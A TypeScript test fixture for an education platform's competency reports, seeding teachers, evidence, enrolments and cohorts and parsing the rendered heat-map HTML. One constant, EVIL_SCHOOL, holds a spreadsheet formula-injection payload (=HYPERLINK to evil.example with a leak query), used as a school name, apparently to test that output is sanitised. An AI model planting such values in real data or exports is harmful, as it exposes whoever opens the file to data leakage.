import { revokeRole } from '../../server/auth/queries.ts';
import { getCatalogue } from '../../server/courses/catalogue.ts';
import type { Db } from '../../server/db/client.ts';
import { cohortMembers, cohorts, enrolments, type EvidenceKind } from '../../server/db/schema.ts';
import { addEvidence as writeEvidence } from '../../server/learning/queries.ts';
import { COMPETENCIES } from '../../server/framework/ict-cft.ts';
import { createTestApp, makeUser, type TestContext, userAgent } from '../helpers.ts';

// A small population whose right answers are worked out by hand in the tests.
//
//   teacher  school                region    country  cohorts           enrolments (ICT in Primary Education)
//   Anna     North School          Yakutia   Russia   Spring 2024       active
//   Boris    North School          Yakutia   Russia   Spring, Arctic    withdrawn
//   Clara    South School          Yakutia   Russia   Arctic            active
//   Dmitri   =HYPERLINK(...)       Murmansk  Russia   -                 active
//   Erik     Fjord School          Troms     Norway   Arctic            -
//   Xenia    North School          Yakutia   Russia   (not a teacher: her role is removed; never counted)
//   the administrator (signed in) is not a teacher either.
//
// Evidence (module slugs in brackets; UTC):
//   Anna   KA.1 2024-02-01 [why-mil-matters] and 2024-03-01 [ict-across-the-curriculum];
//          KA.2..KA.6 2024-03-31T23:59:59; KD.1 2024-06-15
//   Boris  KA.1, KA.2 2023-12-31T23:59:59; KA.3 2024-05-05
//   Clara  all 18 competencies 2024-04-10
//   Dmitri KA.1 2024-01-01T00:00:00 [why-mil-matters: a Media and Information Literacy module]
//   Erik   KC.1 2024-04-01T00:00:00
//   Xenia  KA.1, KD.1 2024-03-01

export const EVIL_SCHOOL = '=HYPERLINK("http://evil.example/?leak","Click")';

export interface Fixture {
  ctx: TestContext;
  admin: Awaited<ReturnType<typeof userAgent>>['agent'];
  ids: Record<'anna' | 'boris' | 'clara' | 'dmitri' | 'erik' | 'xenia', number>;
  primaryCourseId: number;
  cohortIds: { spring: number; arctic: number };
}

async function moduleFor(db: Db, code: string, slug?: string) {
  const carriers = (await getCatalogue(db)).byCompetency(code);
  const found = slug ? carriers.find((c) => c.module.slug === slug) : carriers[0];
  if (!found) throw new Error(`no module ${slug ?? ''} for ${code}`);
  return found;
}

/**
 * One evidence row. Assessed by default, which demonstrates a competency at every level, so a
 * figure here is a teacher counted; pass kind 'quiz' for knowledge checked only.
 */
export async function addEvidence(db: Db, userId: number, code: string, when: string, slug?: string, kind: EvidenceKind = 'assessed'): Promise<void> {
  const { course, module } = await moduleFor(db, code, slug);
  const source = kind === 'quiz' ? `module:${module.id}` : kind === 'assessed' ? `assignment:${module.id}` : `${kind}:${module.id}`;
  const modular = kind === 'quiz' || kind === 'assessed';
  await writeEvidence(db, {
    userId,
    competencies: [code],
    kind,
    source,
    moduleId: modular ? module.id : null,
    courseId: modular ? course.id : null,
    now: Date.parse(when),
  });
}

async function dropTeacherRole(db: Db, userId: number): Promise<void> {
  await revokeRole(db, userId, 'teacher');
}

/** A signed-in administrator who is not also a teacher (makeUser gives everyone the teacher role). */
export async function adminAgent(ctx: TestContext) {
  const { user, agent } = await userAgent(ctx, { roles: ['admin'], name: 'Admin' });
  await dropTeacherRole(ctx.db, user.id);
  return agent;
}

export async function buildFixture(): Promise<Fixture> {
  const ctx = await createTestApp();
  const { db } = ctx;
  const admin = await adminAgent(ctx);
  const person = async (name: string, school: string, region: string, country: string) =>
    (await makeUser(db, { name, email: `${name.toLowerCase()}@example.org`, school, region, country })).id;
  const ids = {
    anna: await person('Anna', 'North School', 'Yakutia', 'Russia'),
    boris: await person('Boris', 'North School', 'Yakutia', 'Russia'),
    clara: await person('Clara', 'South School', 'Yakutia', 'Russia'),
    dmitri: await person('Dmitri', EVIL_SCHOOL, 'Murmansk', 'Russia'),
    erik: await person('Erik', 'Fjord School', 'Troms', 'Norway'),
    xenia: await person('Xenia', 'North School', 'Yakutia', 'Russia'),
  };
  await dropTeacherRole(db, ids.xenia);

  await addEvidence(db, ids.anna, 'KA.1', '2024-02-01T10:00:00Z', 'why-mil-matters');
  await addEvidence(db, ids.anna, 'KA.1', '2024-03-01T10:00:00Z', 'ict-across-the-curriculum');
  for (const code of ['KA.2', 'KA.3', 'KA.4', 'KA.5', 'KA.6']) await addEvidence(db, ids.anna, code, '2024-03-31T23:59:59Z');
  await addEvidence(db, ids.anna, 'KD.1', '2024-06-15T09:00:00Z');
  await addEvidence(db, ids.boris, 'KA.1', '2023-12-31T23:59:59Z');
  await addEvidence(db, ids.boris, 'KA.2', '2023-12-31T23:59:59Z');
  await addEvidence(db, ids.boris, 'KA.3', '2024-05-05T12:00:00Z');
  for (const c of COMPETENCIES) await addEvidence(db, ids.clara, c.code, '2024-04-10T08:00:00Z');
  await addEvidence(db, ids.dmitri, 'KA.1', '2024-01-01T00:00:00Z', 'why-mil-matters');
  await addEvidence(db, ids.erik, 'KC.1', '2024-04-01T00:00:00Z');
  await addEvidence(db, ids.xenia, 'KA.1', '2024-03-01T10:00:00Z');
  await addEvidence(db, ids.xenia, 'KD.1', '2024-03-01T10:00:00Z');

  const primaryCourseId = (await getCatalogue(db)).course('ict-primary-education')!.id;
  const now = Date.parse('2024-01-01T00:00:00Z');
  const enrol = async (userId: number, status: 'active' | 'withdrawn') => {
    await db.insert(enrolments).values({ userId, courseId: primaryCourseId, status, enrolledAt: now, lastActivityAt: now });
  };
  await enrol(ids.anna, 'active');
  await enrol(ids.boris, 'withdrawn');
  await enrol(ids.clara, 'active');
  await enrol(ids.dmitri, 'active');

  const cohort = async (name: string, members: number[]) => {
    const [row] = await db.insert(cohorts).values({ name, startDate: '2024-01-01', createdAt: now }).returning({ id: cohorts.id });
    const id = row!.id;
    for (const userId of members) await db.insert(cohortMembers).values({ cohortId: id, userId, addedAt: now });
    return id;
  };
  const cohortIds = { spring: await cohort('Spring 2024', [ids.anna, ids.boris]), arctic: await cohort('Arctic', [ids.boris, ids.clara, ids.erik]) };
  return { ctx, admin, ids, primaryCourseId, cohortIds };
}

/** The figures as a plain object keyed by competency/level code: what every test compares. */
export type Figures = Record<string, [count: number, percent: number]>;

/** Reads the figures the page renders (data attributes on the heat-map cells and level rows). */
export function pageSummary(html: string): { teachers: number; figures: Figures } {
  const figures: Figures = {};
  const matrix = html.slice(html.indexOf('class="matrix heat-map"'), html.indexOf('</table>', html.indexOf('class="matrix heat-map"')));
  for (const m of matrix.matchAll(/data-code="([^"]+)" data-count="(\d+)" data-percent="([\d.]+)"/g)) figures[m[1]!] = [Number(m[2]), Number(m[3])];
  for (const m of html.matchAll(/<tr data-level="(K[ADC])" data-count="(\d+)" data-percent="([\d.]+)"/g)) figures[m[1]!] = [Number(m[2]), Number(m[3])];
  const teachers = Number(/data-teachers="(\d+)"/.exec(html)?.[1]);
  return { teachers, figures };
}

/** Reads the group rows the page renders: name -> teachers and figures. */
export function pageGroups(html: string): Map<string, { teachers: number; figures: Figures }> {
  const out = new Map<string, { teachers: number; figures: Figures }>();
  for (const row of html.matchAll(/<tr data-group="([^"]*)" data-teachers="(\d+)">([\s\S]*?)<\/tr>/g)) {
    const figures: Figures = {};
    for (const m of row[3]!.matchAll(/data-(?:code|level)="([^"]+)" data-count="(\d+)" data-percent="([\d.]+)"/g))
      figures[m[1]!] = [Number(m[2]), Number(m[3])];
    // Keys of typed places are "text:<as typed>" (registry entries "org:<id>"); the tests name typed ones.
    out.set(unescapeHtml(row[1]!).replace(/^text:/, ''), { teachers: Number(row[2]), figures });
  }
  return out;
}

export function unescapeHtml(text: string): string {
  return text
    .replace(/&#34;|&quot;/g, '"')
    .replace(/&#39;/g, "'")
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&amp;/g, '&');
}

/** Expected figures from a compact hand-written list; anything not listed is 0 of `teachers`. */
export function expected(teachers: number, counts: Record<string, number>): Figures {
  const out: Figures = {};
  for (const code of [...COMPETENCIES.map((c) => c.code as string), 'KA', 'KD', 'KC']) {
    const count = counts[code] ?? 0;
    out[code] = [count, teachers ? Math.round((count * 1000) / teachers) / 10 : 0];
  }
  return out;
}
